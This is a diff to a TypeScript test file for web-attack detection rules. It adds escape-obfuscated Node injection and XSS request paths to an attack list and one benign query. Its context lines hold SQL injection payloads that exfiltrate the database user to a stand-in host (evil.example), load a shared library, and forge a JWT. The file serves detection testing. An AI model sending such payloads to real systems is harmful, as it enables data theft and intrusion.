@@ -420,6 +420,10 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['sqli-function', "/item?id=1%20and%20dbms_ldap.init((select%20user%20from%20dual)||'.evil.example',80)%20is%20not%20null"],
   ['sqli-function', "/item?id=1%20and%20httpuritype('http://evil.example/').getclob()%20is%20not%20null"],
   ['sqli-function', "/item?id=1%20and%20load_extension('/tmp/x.so')"],
+  // JavaScript's escapes of letters: decoded for the rules of names, and a sign of their own as logged.
+  ['generic-node-injection', '/api?x=%5Cu0070rocess.env'],
+  ['generic-node-injection', '/api?x=pro%5Cu{63}ess.mainModule'],
+  ['xss-handler-attribute', '/get?var=%22in%20\\u0076\\u0061l\\u0075e\\u004F\\u0066%3d'],
   ['generic-jwt-forgery', '/account?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6Ii4uLy4uLy4uLy4uL2Rldi9udWxsIn0.eyJzdWIiOiJhZG1pbiJ9.x'],
 ];
 
@@ -670,6 +674,7 @@ const BENIGN: readonly string[] = [
   '/search?q=what%20is%20::1',
   '/search?q=user%20((not%20me))',
   '/search?q=load_extension%20sqlite',
+  '/search?q=caf%5Cu00e9',
 ];
 
 describe('rule families', () => {
